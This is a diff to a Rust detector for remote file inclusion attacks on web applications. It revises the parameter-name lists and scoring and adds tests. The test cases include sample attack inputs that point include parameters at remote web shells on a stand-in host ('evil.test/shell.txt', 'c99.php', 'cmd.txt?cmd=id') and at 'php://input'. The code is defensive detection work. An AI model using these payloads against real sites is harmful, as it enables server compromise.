@@ -38,42 +38,27 @@ const STREAMS: &[(&[u8], f64)] = &[
 ];
 /// What parameters are called whose value goes into an include, in lower case.
 const NAMES: &[&str] = &[
-    "page",
-    "pag",
     "file",
     "filename",
     "include",
     "inc",
     "include_path",
-    "path",
     "template",
     "tpl",
-    "document",
-    "doc",
     "module",
     "mod",
     "mod_dir",
-    "view",
     "load",
     "root",
     "root_path",
-    "dir",
     "basedir",
     "base_dir",
     "base_path",
     "basepath",
     "skin",
     "theme",
-    "style",
-    "lang",
-    "language",
     "conf",
     "config",
-    "section",
-    "content",
-    "body",
-    "main",
-    "menu",
     "site_path",
     "phpbb_root_path",
     "mosconfig_absolute_path",
@@ -88,8 +73,11 @@ const NAMES: &[&str] = &[
     "libdir",
     "lib_dir",
     "class_path",
-    "show",
-    "cmd",
+];
+/// Names under which programs that count visitors send the address of a page as well.
+const WIDER_NAMES: &[&str] = &[
+    "page", "pag", "path", "document", "doc", "view", "dir", "style", "lang", "language",
+    "section", "content", "body", "main", "menu", "show", "src",
 ];
 /// Endings under which a script is offered so that it is not run where it lies.
 const BAITS: &[&str] = &[".gif", ".ico", ".htm", ".html", ".jpg"];
@@ -119,7 +107,7 @@ fn confirm(view: &View<'_>) -> Option<Evidence> {
     let rest = after.get(path.len()..)?;
     let ends = |endings: &[&str]| endings.iter().any(|ending| path.ends_with(ending.as_bytes()));
     let script = ends(SCRIPTS);
-    let named = is_include(view.name);
+    let named = is_called(view.name, NAMES);
     // A mark at the end swallows what the application appends to the name.
     let swallows = matches!(rest, b"?" | b"#" | b"\0" | b"%00" | b"??");
     let command =
@@ -131,6 +119,7 @@ fn confirm(view: &View<'_>) -> Option<Evidence> {
         (true, false, true) => 0.6,
         (false, false, true) if path.is_empty() || ends(BAITS) => 0.6,
         (false, true, false) if by_number(text, scheme.len(), host) => 0.55,
+        _ if is_called(view.name, WIDER_NAMES) && (script || swallows) => 0.4,
         (true, false, false) => 0.25,
         _ => return None,
     };
@@ -152,13 +141,13 @@ fn by_number(text: &[u8], start: usize, length: usize) -> bool {
         || host.iter().all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b':'))
 }
 
-/// Tells whether `name`, or the last key in its brackets, asks for a file to include.
-fn is_include(name: &[u8]) -> bool {
+/// Tells whether `name`, or the last key in its brackets, is one of `names`.
+fn is_called(name: &[u8], names: &[&str]) -> bool {
     let last = match find(name, b"[") {
         Some(_) => name.split(|byte| matches!(byte, b'[' | b']')).rfind(|key| !key.is_empty()),
         None => Some(name),
     };
-    last.is_some_and(|last| NAMES.iter().any(|known| last.eq_ignore_ascii_case(known.as_bytes())))
+    last.is_some_and(|last| names.iter().any(|known| last.eq_ignore_ascii_case(known.as_bytes())))
 }
 
 #[cfg(test)]
@@ -174,7 +163,7 @@ mod tests {
             "page=http://evil.test/shell.txt?",
             "file=https://evil.test/c99.php",
             "x=http://evil.test/cmd.txt?cmd=id",
-            "_CONF[path]=http://evil.test/a.php",
+            "_CONF[basedir]=http://evil.test/a.php",
             "src=http://66.240.183.75/crash.php",
             "page=php://input",
             "page=PHP://input",
@@ -194,6 +183,9 @@ mod tests {
             "redirect=https://www.example.org/a.php?id=4",
             "next=https://www.example.org/?",
             "page=https://www.example.org/",
+            "page=https://www.example.org/index.php",
+            "page=https://www.example.org/?",
+            "path=https://www.example.org/readme.txt",
             "image=http://192.0.2.1/logo.png",
             "text=see+http://www.example.org/a.txt+for+more",
             "avatar=data:image/png;base64,iVBORw0KGgo=",
